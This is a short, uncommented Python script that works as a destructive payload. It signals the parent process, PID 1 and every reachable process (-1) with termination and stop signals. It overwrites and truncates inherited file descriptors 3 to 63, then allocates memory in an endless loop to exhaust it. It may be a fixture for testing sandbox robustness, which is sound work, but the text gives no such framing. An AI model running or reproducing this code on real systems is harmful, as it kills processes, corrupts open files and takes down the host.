import os
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGCHLD, signal.SIGKILL, signal.SIGSTOP):
    for process in (os.getppid(), 1, -1):
        try:
            os.kill(process, number)
        except OSError:
            pass
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\xff" * 100_000)
        os.ftruncate(descriptor, 0)
    except OSError:
        pass
os.closerange(3, 64)
kept = []
while True:
    kept.append(bytearray(1 << 20))
